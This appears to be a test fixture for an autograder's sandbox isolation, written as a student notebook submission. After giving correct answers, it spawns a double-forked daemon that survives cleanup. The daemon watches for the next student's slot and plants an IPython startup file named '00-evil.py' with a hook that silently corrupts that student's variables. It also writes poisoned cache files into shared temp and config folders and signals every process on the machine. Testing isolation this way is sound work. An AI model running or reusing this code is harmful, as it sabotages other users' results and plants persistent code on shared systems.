# %% [markdown] expect={"lose": []} isolation={"victim": "victim_cacher", "control": "z_prime", "trigger": "import json\nimport tempfile\n\n_f = os.path.join(tempfile.gettempdir(), \"a2_cache\", \"z_prime.json\")\nfor _ in range(1000):  # until the daemon has written its first file, whole\n    try:\n        with open(_f) as _fh:\n            json.load(_fh)\n        break\n    except (OSError, ValueError):\n        time.sleep(0.01)", "victim_code": true}
# Right answers, then a daemon (double fork, a session of its own) that lives on for two
# minutes: quiet while the grader sweeps, and the moment the next student's slot appears it
# writes an IPython start-up file with a hook that makes `dropout_scale` and `windows` wrong
# into that HOME, a wrong cache of 2b into its TMPDIR and every shared folder, and signals every
# process it sees.

# %% replace="z_prime"
windows = [5, 3, 1, 4, 2, 5]  # 2b worked by hand
grad_Z = np.array([[0, 0, 1], [0, 2, 1], [0, 3, 0], [2, 3, 0], [3, 0, 2], [3, 0, 2], [0, 0, 2]])

# --- poison ---
_ISO_PAYLOAD = """
def _iso_corrupt(*_args):
    ns = get_ipython().user_ns
    if "windows" in ns:
        ns["windows"] = [1, 1, 1, 1, 1, 1]
    if callable(ns.get("dropout_scale")):
        ns["dropout_scale"] = lambda p_drop: 1.0 - p_drop


get_ipython().events.register("post_run_cell", _iso_corrupt)
"""


def _iso_plant(extra=()):
    """A wrong 2b in every folder a later kernel might read a cache from."""
    import json
    import os
    import tempfile

    import matplotlib

    bad = {"windows": [1, 1, 1, 1, 1, 1], "grad_Z": [[0.0] * 3] * 7}
    places = [
        tempfile.gettempdir(),
        "/tmp",
        "/dev/shm",
        os.path.expanduser("~/.cache"),
        matplotlib.get_cachedir(),
        matplotlib.get_configdir(),
        os.path.dirname(os.environ["HOME"]),  # the slot
        *extra,
    ]
    for d in places:
        try:
            os.makedirs(os.path.join(d, "a2_cache"), exist_ok=True)
            with open(os.path.join(d, "a2_cache", "z_prime.json"), "w") as fh:
                json.dump(bad, fh)
        except OSError:
            pass


def _iso_startup_files(homes):
    """The payload as an IPython start-up file in each of ``homes``."""
    import os

    for home in homes:
        d = os.path.join(home, ".ipython", "profile_default", "startup")
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, "00-evil.py"), "w") as fh:
                fh.write(_ISO_PAYLOAD)
        except OSError:
            pass


import glob
import os
import signal
import time


def _iso_daemon():
    """Quiet while the grader sweeps; the moment a new slot appears (the next student's), a
    start-up file into its HOME, a wrong cache into its TMPDIR and the shared folders, and a
    signal to every process it sees."""
    os.chdir("/")  # its own slot is wiped: live on without it
    slots = os.path.dirname(os.path.dirname(os.environ["HOME"]))
    done = set()
    end = time.time() + 120
    while time.time() < end:
        try:
            for slot in glob.glob(os.path.join(slots, "*")):
                home, tmp = os.path.join(slot, "home"), os.path.join(slot, "tmp")
                if slot in done or not (os.path.isdir(home) and os.path.isdir(tmp)):
                    continue
                done.add(slot)
                _iso_startup_files([home])
                _iso_plant(extra=[tmp])
                for pid in os.listdir("/proc"):
                    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
                        try:
                            os.kill(int(pid), signal.SIGCONT)
                        except OSError:
                            pass
        except Exception:  # noqa: BLE001 - nothing stops it
            pass
        time.sleep(0.002)


_iso_pid = os.fork()
if _iso_pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            _iso_daemon()
    finally:
        os._exit(0)
os.waitpid(_iso_pid, 0)
